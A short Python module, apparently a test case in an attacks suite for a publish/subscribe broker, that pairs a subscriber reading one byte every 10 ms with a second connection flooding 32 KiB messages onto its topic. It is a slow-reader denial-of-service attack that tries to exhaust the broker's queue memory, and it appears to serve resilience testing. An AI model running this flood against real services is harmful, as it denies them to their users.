"""A node subscribes to what another one publishes, and reads a byte now and then."""

from __future__ import annotations

import threading
import time

from link_frames import PUBLISH, SUBSCRIBE, frame, published, subscribed

from attacks.target import Target, flood

ITEM = 14
MEMORY_MIB = 128
"""`link_queue_bytes`, and half as much again for what memory is taken in blocks."""


def attack(target: Target) -> None:
    reader = target.joined()
    reader.send(frame(SUBSCRIBE, subscribed(b"raw.loud"), id=1 << 32))
    reader.receive()
    loud = threading.Thread(
        target=flood, args=(target.joined().socket, frame(PUBLISH, published(b"raw.loud"), bytes(32_768))), daemon=True
    )
    loud.start()
    while reader.socket.recv(1):
        time.sleep(0.01)
